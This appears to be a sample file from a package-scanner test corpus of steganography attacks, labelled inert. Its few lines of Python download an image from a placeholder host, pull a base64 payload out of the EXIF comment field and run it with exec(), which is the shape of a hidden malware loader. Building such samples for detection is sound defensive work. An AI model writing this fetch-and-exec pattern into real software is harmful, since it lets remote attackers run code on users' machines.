# pkgguard corpus 190 (steganography), modelled on [telnyx]; inert, never run.
import base64
import io
import requests
from PIL import Image

img = Image.open(io.BytesIO(requests.get("https://cdn.example/banner.jpg").content))
comment = img.getexif().get(0x9286, b"")
exec(base64.b64decode(comment))
